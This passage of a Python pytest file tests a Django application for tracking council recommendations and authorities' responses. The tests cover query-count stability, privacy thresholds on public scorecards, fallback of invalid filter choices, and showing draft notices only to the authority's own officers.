            officer = officer_of(track.organisation)
            services.response_save_draft(
                actor=officer, addressee=track,
                outcome=Outcome.ACCEPTED, reasons="Yes.", language="en",
            )  # fmt: skip
            services.response_publish(actor=officer, addressee=track)
            services.progress_report(
                actor=officer, addressee=track, percent=20, note="Begun.", language="en"
            )

    response = assert_same_queries(
        client, recommendation.get_absolute_url(), lambda: ask(4), django_assert_num_queries
    )

    assert len(response.context["tracks"]) == 5


@pytest.mark.django_db
def test_the_inbox_needs_the_same_queries_for_3_or_15_tracks(
    client, council, authority, officer, coordinator, django_assert_num_queries
):
    def make(count: int) -> None:
        for n in range(count):
            recommendation = recommendation_sent(
                actor=coordinator, council=council, addressees=[authority]
            )
            if n % 2:
                services.response_save_draft(
                    actor=officer, addressee=recommendation.addressees.get(),
                    outcome=Outcome.REJECTED, reasons="No.", language="en",
                )  # fmt: skip

    client.force_login(officer)
    make(3)
    response = assert_same_queries(
        client, url("inbox"), lambda: make(12), django_assert_num_queries
    )

    assert len(response.context["page"].object_list) == 15


@pytest.mark.django_db
@pytest.mark.parametrize("by", ["authority", "council"])
def test_the_scorecards_need_the_same_queries_for_3_or_15_recommendations(
    client, coordinator, by, django_assert_num_queries
):
    def make(count: int) -> None:
        for _n in range(count):
            recommendation = recommendation_sent(actor=coordinator)
            track = recommendation.addressees.get()
            officer = officer_of(track.organisation)
            services.response_save_draft(
                actor=officer, addressee=track, outcome=Outcome.ACCEPTED, reasons="Yes.",
                language="en",
            )  # fmt: skip
            services.response_publish(actor=officer, addressee=track)

    make(3)
    response = assert_same_queries(
        client, f"{url('scorecards')}?by={by}", lambda: make(12), django_assert_num_queries
    )

    assert len(response.context["cards"]) == 15


# Scorecards


@pytest.mark.django_db
def test_the_scorecards_hide_the_shares_of_small_counts(client, sent):
    response = client.get(url("scorecards"))

    assert response.status_code == 200
    [card] = response.context["cards"]
    assert card.key == "city-of-graz"
    assert card.received == 1
    assert card.answered_share is None
    assert "Too few recommendations to publish figures." in response.text


@pytest.mark.django_db
def test_the_scorecards_by_council_show_the_figures_of_ten_and_more(
    client, council, authority, officer, coordinator
):
    for n in range(10):
        recommendation = recommendation_sent(
            actor=coordinator, council=council, addressees=[authority]
        )
        if n < 5:
            track = recommendation.addressees.get()
            services.response_save_draft(
                actor=officer, addressee=track, language="en", reasons="Yes.",
                outcome=Outcome.ACCEPTED if n < 4 else Outcome.REJECTED,
            )  # fmt: skip
            services.response_publish(actor=officer, addressee=track)
        else:
            # Unanswered past the deadline: they count against the answer rate.
            sent_at(recommendation, days_ago(100))

    response = client.get(url("scorecards"), {"by": "council"})

    [card] = response.context["cards"]
    assert (card.key, card.received) == ("graz", 10)
    assert (card.answered_share, card.on_time_share, card.accepted_share) == (50, 50, 80)
    assert card.implemented_share == 0
    assert "50 %" in response.text


@pytest.mark.django_db
def test_unknown_scorecard_choices_fall_back_to_authorities(client, sent):
    response = client.get(url("scorecards"), {"by": "planet", "country": "ZZ"})

    assert response.status_code == 200
    assert response.context["by"] == "authority"
    assert set(response.context["form"].errors) == {"by", "country"}


@pytest.mark.django_db
def test_the_detail_page_tells_only_the_authority_s_officers_of_their_pending_draft(
    client, sent, track, officer, outsider
):
    services.response_save_draft(
        actor=officer, addressee=track, outcome=Outcome.ACCEPTED, reasons="We agree.",
        language="en",
    )  # fmt: skip
    notice = "Your authority has saved a draft answer."

    client.force_login(officer)
    assert notice in client.get(sent.get_absolute_url()).content.decode()
    client.force_login(outsider)
    page = client.get(sent.get_absolute_url()).content.decode()
    assert notice not in page
    assert "We agree." not in page
